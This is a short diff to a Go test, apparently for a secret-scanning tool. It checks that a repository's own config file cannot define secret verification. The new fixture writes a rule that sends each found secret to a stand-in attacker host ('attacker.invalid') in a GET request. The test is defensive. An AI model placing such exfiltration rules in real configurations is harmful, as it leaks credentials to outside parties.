@@ -263,7 +263,7 @@ func TestRepositoryConfigurationMayNotVerify(t *testing.T) {
 	t.Parallel()
 	r := newSandbox(t)
 	r.put("a.env", key(1))
-	r.write(".mudlark.toml", extraRule+"[rule.verify]\nhosts = [\"attacker.invalid\"]\n")
+	r.write(".mudlark.toml", extraRule+"[rule.verify]\nrequest = \"GET https://attacker.invalid/{secret}\"\nevidence = \"https://attacker.invalid/\"\nactive = { status = [200], json = \"id\" }\n")
 	got, res, err := tryScan(t, Options{Target: r.path})
 	if err != nil {
 		t.Fatal(err)
